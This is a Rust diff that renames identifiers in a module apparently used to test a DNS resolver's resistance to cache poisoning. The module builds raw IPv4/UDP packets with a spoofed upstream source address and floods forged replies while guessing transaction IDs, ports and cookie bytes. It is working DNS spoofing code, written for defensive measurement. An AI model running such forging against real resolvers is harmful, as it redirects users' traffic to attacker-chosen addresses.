@@ -1,42 +1,42 @@
-//! Datagrams with a source address that is not one's own: the forger writes the IP header himself.
+//! Forger: datagrams with the source address of another host. The forger writes the IP header itself.
 
 use super::message::{self, HEADER, cookie_option};
-use super::upstream::Sighting;
-use super::{ASKING, Knowledge, UPSTREAM};
+use super::upstream::ObservedQuery;
+use super::{Knowledge, SIXFOLD, UPSTREAM};
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 use std::io;
 use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV4};
 use std::sync::mpsc::{Receiver, RecvTimeoutError};
 use std::time::{Duration, Instant};
 
-/// The address that he would have people go to.
-pub(super) const EVIL: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 0x66);
+/// Address in the forged replies.
+pub(super) const FORGED_ADDRESS: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 0x66);
 
 /// Octets of an IPv4 header without options, and of both headers before the message.
 const IPV4: usize = 20;
 const HEADERS: usize = IPV4 + 8;
 
-/// Forged replies to one question by somebody who knows all but the cookie: the first is one too many already.
+/// Forged replies to one query by a forger who knows all but the cookie. None of them may be accepted.
 const COOKIES_TRIED: u64 = 10_000;
 
-/// So long he waits for the next question.
-const PATIENCE: Duration = Duration::from_secs(10);
+/// Time that the forger waits for the next query.
+const NEXT_QUERY_TIMEOUT: Duration = Duration::from_secs(10);
 
-/// What he has done.
+/// Counts of the forger.
 #[derive(Clone, Copy, Debug, Default)]
-pub(super) struct Done {
+pub(super) struct ForgerCounts {
     pub(super) sent: u64,
     pub(super) questions: u64,
-    /// Questions for which every ID, or every try, was sent before the honest reply was due.
+    /// Queries for which every ID, or every try, was sent before the honest reply was due.
     pub(super) in_time: u64,
 }
 
-/// A number generator that is good enough for guesses (xorshift64).
-pub(super) struct Guesses(u64);
+/// Random number generator that is good enough for guesses (xorshift64).
+pub(super) struct Rng(u64);
 
-impl Guesses {
-    pub(super) fn new(seed: u64) -> Guesses {
-        Guesses(seed | 1)
+impl Rng {
+    pub(super) fn new(seed: u64) -> Rng {
+        Rng(seed | 1)
     }
 
     pub(super) fn next(&mut self) -> u64 {
@@ -47,7 +47,7 @@ impl Guesses {
     }
 }
 
-/// A raw socket, and a datagram that is patched.
+/// Raw socket, and a datagram that is patched.
 struct Forger {
     socket: Socket,
     to: SockAddr,
@@ -60,21 +60,21 @@ impl Forger {
         let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc_raw())))?;
         socket.set_header_included_v4(true)?;
         socket.set_send_buffer_size(1 << 20)?;
-        let to = SockAddr::from(SocketAddrV4::new(ASKING, 0));
+        let to = SockAddr::from(SocketAddrV4::new(SIXFOLD, 0));
         Ok(Forger { socket, to, packet: Vec::new(), sent: 0 })
     }
 
-    /// The next datagrams carry this message from the upstream's address and port.
+    /// Puts this message into the following datagrams, from the upstream's address and port.
     fn prepare(&mut self, message: &[u8]) {
         let octets = (HEADERS + message.len()) as u16;
         let [a, b] = octets.to_be_bytes();
         // Version 4 with five words, no fragment, 64 hops, UDP. The kernel fills in the checksum.
         self.packet = vec![0x45, 0, a, b, 0, 0, 0x40, 0, 64, 17, 0, 0];
-        let addresses: [Ipv4Addr; 2] = [*UPSTREAM.ip(), ASKING];
+        let addresses: [Ipv4Addr; 2] = [*UPSTREAM.ip(), SIXFOLD];
         addresses.iter().for_each(|address| self.packet.extend(address.octets()));
         self.packet.extend(UPSTREAM.port().to_be_bytes());
         let [a, b] = (octets - IPV4 as u16).to_be_bytes();
-        // No checksum: over IPv4 that is allowed (RFC 768).
+        // No checksum: IPv4 permits that (RFC 768).
         self.packet.extend([0, 0, a, b, 0, 0]);
         self.packet.extend(message);
     }
@@ -99,79 +99,91 @@ const fn libc_raw() -> i32 {
     255
 }
 
-/// Sends so many forged replies to the questions that `seen` shows, the newest first. Ends early when there are no more.
+/// Sends this number of forged replies to the queries from `seen`, the newest first. Ends early if no more come.
 pub(super) fn forge(
     knowledge: Knowledge,
     replies: u64,
     delay: Duration,
-    seen: &Receiver<Sighting>,
-) -> io::Result<Done> {
+    seen: &Receiver<ObservedQuery>,
+) -> io::Result<ForgerCounts> {
     let mut forger = Forger::new()?;
-    let mut guesses = Guesses::new(0x9e37_79b9_7f4a_7c15);
-    let mut done = Done::default();
+    let mut rng = Rng::new(0x9e37_79b9_7f4a_7c15);
+    let mut done = ForgerCounts::default();
     while forger.sent < replies {
-        let mut sighting = match seen.recv_timeout(PATIENCE) {
-            Ok(sighting) => sighting,
+        let mut query = match seen.recv_timeout(NEXT_QUERY_TIMEOUT) {
+            Ok(query) => query,
             Err(RecvTimeoutError::Timeout | RecvTimeoutError::Disconnected) => break,
         };
         while let Ok(newer) = seen.try_recv() {
-            sighting = newer;
+            query = newer;
         }
         let room = replies - forger.sent;
-        one(&mut forger, knowledge, &sighting, room, &mut guesses, delay)?;
+        forge_replies(&mut forger, knowledge, &query, room, &mut rng, delay)?;
         done.questions += 1;
-        let is_due = sighting.seen + delay <= Instant::now();
-        // Who guesses ports goes on until then.
+        let is_due = query.seen + delay <= Instant::now();
+        // A forger who guesses ports continues until then.
         done.in_time += u64::from(!is_due || knowledge == Knowledge::Letters);
     }
     done.sent = forger.sent;
     Ok(done)
 }
 
-/// Forges replies to one question, at most `room`.
-fn one(
+/// Forges at most `room` replies to one query.
+fn forge_replies(
     forger: &mut Forger,
     knowledge: Knowledge,
-    sighting: &Sighting,
+    query: &ObservedQuery,
     room: u64,
-    guesses: &mut Guesses,
+    rng: &mut Rng,
     delay: Duration,
 ) -> io::Result<()> {
     let small;
     let question = match knowledge {
         Knowledge::PortOnly => {
-            small = sighting.question.to_ascii_lowercase();
+            small = query.question.to_ascii_lowercase();
             &small
         }
-        _ => &sighting.question,
+        _ => &query.question,
     };
     let with_cookie = cookie_option(&[0x66; 24]);
     let options = match knowledge {
         Knowledge::AllButCookie => Some(&with_cookie[..]),
-        _ => sighting.has_cookie.then_some(&[][..]),
+        _ => query.has_cookie.then_some(&[][..]),
     };
-    forger.prepare(&message::reply(sighting.id, question, EVIL, options));
-    forger.set_port(sighting.port);
+    forger.prepare(&message::reply(query.id, question, FORGED_ADDRESS, options));
+    forger.set_port(query.port);
+    send_guesses(forger, knowledge, query, room, rng, delay)
+}
+
+/// Sends the prepared reply with every value of the unknown fields, or with random values, at most `room` times.
+fn send_guesses(
+    forger: &mut Forger,
+    knowledge: Knowledge,
+    query: &ObservedQuery,
+    room: u64,
+    rng: &mut Rng,
+    delay: Duration,
+) -> io::Result<()> {
     match knowledge {
         Knowledge::Port => {
             for distance in 1..=room.min(1 << 16) {
-                forger.set_id(sighting.id.wrapping_add(distance as u16));
+                forger.set_id(query.id.wrapping_add(distance as u16));
                 forger.send()?;
             }
         }
         Knowledge::PortOnly => {
-            let first = guesses.next() as u16;
+            let first = rng.next() as u16;
             for distance in 0..room.min(1 << 16) {
                 forger.set_id(first.wrapping_add(distance as u16));
                 forger.send()?;
             }
         }
         Knowledge::Letters => {
-            // Until the honest reply is there: another question gives him no better chance.
+            // Until the honest reply comes: another query gives no better chance.
             let mut left = room;
-            while left > 0 && sighting.seen.elapsed() < delay {
+            while left > 0 && query.seen.elapsed() < delay {
                 for _ in 0..left.min(256) {
-                    let guess = guesses.next();
+                    let guess = rng.next();
                     forger.set_port(1024 + (guess >> 32) as u16 % (u16::MAX - 1023));
                     forger.set_id(guess as u16);
                     forger.send()?;
@@ -183,7 +195,7 @@ fn one(
             let cookie = forger.packet.len() - 24;
             debug_assert!(cookie > HEADERS + HEADER);
             for _ in 0..room.min(COOKIES_TRIED) {
-                forger.packet[cookie..cookie + 8].copy_from_slice(&guesses.next().to_be_bytes());
+                forger.packet[cookie..cookie + 8].copy_from_slice(&rng.next().to_be_bytes());
                 forger.send()?;
             }
         }
